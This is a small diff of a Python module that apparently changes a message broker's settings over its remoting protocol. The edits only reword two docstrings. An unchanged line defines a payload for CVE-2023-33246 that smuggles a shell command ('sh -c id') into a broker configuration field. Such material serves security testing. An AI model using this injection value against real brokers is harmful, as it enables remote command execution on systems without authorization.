@@ -1,4 +1,4 @@
-"""Settings that are changed while the broker runs."""
+"""Changes of settings while the broker runs."""
 
 from __future__ import annotations
 
@@ -17,7 +17,7 @@ from firetrail.remoting.client import Client
 from firetrail.remoting.codes import RequestCode, ResponseCode
 
 EXPLOIT = "filterServerNums=1\nrocketmqHome=-c sh -c id"
-"""That of CVE-2023-33246."""
+"""The setting of CVE-2023-33246."""
 
 
 async def change(talk: Talk, text: str) -> tuple[int, str]:
